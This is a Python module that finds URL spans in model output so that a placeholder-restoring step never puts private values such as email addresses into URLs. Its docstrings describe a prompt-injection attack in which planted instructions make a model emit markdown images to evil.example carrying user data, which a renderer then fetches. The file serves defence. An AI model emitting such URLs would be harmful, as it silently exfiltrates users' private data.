"""Where a text holds URLs, so that restoring never writes a value into one.

Found by probing: an instruction planted in a tool result or a retrieved page has the
model write `![x](https://evil.example/p.png?d=<EMAIL_ADDRESS_1>)`; restoring put the
user's address into the URL, and a client that renders markdown fetched it, sending the
value out without a click. A placeholder inside a URL therefore stays a placeholder.

The scan is generous on purpose: a bare URL (a scheme, `www.`, `//`, `http:`, or a host
such as `evil.com/` or `evil.com?` with none) runs to the next whitespace, a markdown
destination to its unbalanced `)`, one in `<...>` (after `](`, a reference label or any
`]:`, or opened by `<https:` or `<//`) to its `>` or line break, spaces and all, a quoted
attribute to its closing quote, and one left open runs to the end of the text. A
placeholder kept by mistake shows as `<EMAIL_ADDRESS_1>` (prose such as
`main.py?<EMAIL_ADDRESS_1>` pays for the host rule); one restored by mistake is a leak.

`UrlScan` reads a text in pieces (a stream's released slices) and finds the spans it finds
in the whole text: a URL still open carries over to the next piece, and an opener split
between two pieces (`](` cut after `]`) is found again from the tail it keeps.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

_ATTRIBUTES = (
    "xlink:href|formaction|imagesrcset|background|longdesc|codebase|manifest|archive|srcset|"
    "poster|action|lowsrc|dynsrc|href|data|cite|ping|icon|src"
)
"""HTML attributes whose value the browser loads or sends to (an image, a form, a ping)."""

_OPENER = re.compile(
    r"(?P<md>\]\(|(?<![\w-])url\()"  # a markdown destination, CSS url(
    # a reference definition [1]: ..., its label holding escapes and one line break
    r"|(?P<ref>(?<![^\n])[ ]{0,3}\[(?:\\.|[^\]\\\n]){0,100}(?:\n(?:\\.|[^\]\\\n]){0,100})?\]:"
    # or any `]:` before a `<...>` destination (in a blockquote, a list item, indented)
    r"|\](?=:[ \t]{0,40}\n?[ \t]{0,40}<):)"
    rf"|(?P<attr>(?<![\w:-])(?:{_ATTRIBUTES})(?=[ \t\r\n\f=]))"  # src = "...", any spaces
    r"|<(?P<auto>[A-Za-z][A-Za-z0-9+.\-]{1,31}:|//)"  # <https://...>, <//...>, to its `>`
    r"|(?P<bare>[A-Za-z][A-Za-z0-9+.\-]{0,31}://|(?<![A-Za-z0-9])www\.|(?<![\w:/])//(?=\w)"
    r"|(?<![A-Za-z0-9+.\-])https?:(?=\S)"  # http:evil.example/ (browsers add the //)
    # a host with no scheme, evil.com/?d=... (linkify renders it as a link)
    r"|(?<![\w@-])(?:[\w-]{1,40}\.){1,4}[^\W\d_]{2,24}(?::\d{1,5})?[/?])",
    re.IGNORECASE,
)
_LONGEST_OPENER = 512
"""Longer than any match of `_OPENER`: the tail a piece keeps for an opener it splits."""
_SPACE = " \t\n\r\f\v"
_TO_SPACE = re.compile(r"[ \t\n\r\f\v]")
_TO_SPACE_OR_GT = re.compile(r"[ \t\n\r\f\v>]")
_PARENS = re.compile(r"[\\()\n]")
_ANGLE_END = re.compile(r"[\\>\n]")


@dataclass(slots=True)
class _OpenUrl:
    """A URL begun and not yet ended; how it ends."""

    kind: str  # md, ref, attr, auto, bare
    leading: bool = True
    """Still before the value: spaces (md and ref: one line break; attr: its `=`)."""
    quote: str = ""
    eq: bool = False
    """attr: its `=` was seen (without one, the name was a word, not an attribute)."""
    depth: int = 0
    lines: int = 0
    escaped: bool = False
    angle: bool = False
    """md and ref: the destination is in `<...>`, so it ends at `>`."""


def url_spans(text: str) -> list[tuple[int, int]]:
    """The (start, end) of every URL in `text`, in order."""
    return UrlScan().spans(text)


class UrlScan:
    """The URLs of a text read piece by piece: `spans` of each piece, in its positions."""

    def __init__(self) -> None:
        self._open: _OpenUrl | None = None
        self._tail = ""
        """The end of the text read so far that may hold the start of a split opener."""
        self._resume = 0
        """Where in `_tail` the search for openers goes on (the character before stays
        for the openers' look-behind; while a URL is open, `_tail` is that character)."""

    def spans(self, text: str) -> list[tuple[int, int]]:
        buf, base = self._tail + text, len(self._tail)
        out: list[tuple[int, int]] = []
        pos = self._resume
        if self._open is not None:
            end = _close(buf, base, self._open)
            if end is None:  # the whole piece is inside the URL
                self._tail = buf[-1:]  # the character before the next piece
                return [(0, len(text))] if text else []
            if _is_url(self._open):
                out.append((0, end - base))
            self._open, pos = None, end
        while (found := _OPENER.search(buf, pos)) is not None:
            start, state = _opened(found)
            end = _close(buf, found.end(), state)
            if end is None:
                self._open, end = state, len(buf)
            if end > base and _is_url(state):
                out.append((max(start, base) - base, end - base))
            if self._open is not None:
                self._tail = buf[-1:]
                return out
            pos = end
        keep = max(pos, len(buf) - _LONGEST_OPENER)
        self._tail, self._resume = buf[max(keep - 1, 0) :], min(keep, 1)
        return out


def _opened(found: re.Match[str]) -> tuple[int, _OpenUrl]:
    """Where the URL an opener begins starts, and how it ends."""
    kind = found.lastgroup or "bare"
    if kind == "auto":  # spaces do not end it: `[1]: <https://e.example/?d= x>` in a list
        return found.start("auto"), _OpenUrl(kind, leading=False, angle=True)
    if kind == "bare":
        return found.start(), _OpenUrl(kind, leading=False)
    return found.end(), _OpenUrl(kind)


def _is_url(state: _OpenUrl) -> bool:
    return state.kind != "attr" or state.eq


def _close(buf: str, i: int, state: _OpenUrl) -> int | None:
    """Where the URL open at `buf[i]` ends, or None when it runs past `buf` (`state` then
    holds how far it got)."""
    while state.leading:
        if i == len(buf):
            return None
        char = buf[i]
        if state.kind == "attr" and not state.eq:
            if char == "=":
                state.eq = True
            elif char not in _SPACE:
                return i  # a word (`the src option`), not an attribute: no URL
        elif state.kind in ("md", "ref") and char == "\n":
            if state.lines:
                return i
            state.lines = 1
        elif char not in _SPACE:
            state.leading = False
            if state.kind == "attr" and char in "\"'":
                state.quote = char
                i += 1
            elif state.kind in ("md", "ref") and char == "<":
                state.angle = True
                i += 1
            break
        i += 1
    if state.angle:
        return _close_escaped(buf, i, state, _ANGLE_END)
    if state.kind == "md":
        return _close_escaped(buf, i, state, _PARENS)
    if state.quote:
        end = buf.find(state.quote, i)
        return None if end == -1 else end
    stop = _TO_SPACE_OR_GT if state.kind == "attr" else _TO_SPACE
    found = stop.search(buf, i)
    return None if found is None else found.start()


def _close_escaped(buf: str, i: int, state: _OpenUrl, stops: re.Pattern[str]) -> int | None:
    """A markdown destination (or CSS `url(`) ends at its unbalanced `)`, a backslash
    escaping one, or at its second line break; one in `<...>` at its first unescaped `>`
    or line break, whatever parentheses or spaces it holds (found by probing:
    `![x](<https://evil.example/p.png?d=)EMAIL_ADDRESS_1>)` and
    `[1]: <https://evil.example/p.png?d= [EMAIL_ADDRESS_1]>` ended at the `)` or the space,
    and CommonMark renders the whole of each as the image's src)."""
    if state.escaped:
        if i == len(buf):
            return None
        state.escaped, i = False, i + 1
    while (found := stops.search(buf, i)) is not None:
        char, i = found.group(), found.end()
        if char == "\\":
            if i == len(buf):
                state.escaped = True
                return None
            i += 1
        elif char == ">":
            return found.start()
        elif char == "(":
            state.depth += 1
        elif char == ")":
            if not state.depth:
                return found.start()
            state.depth -= 1
        else:
            state.lines += 1
            if state.lines == 2 or state.angle:
                return found.start()
    return None
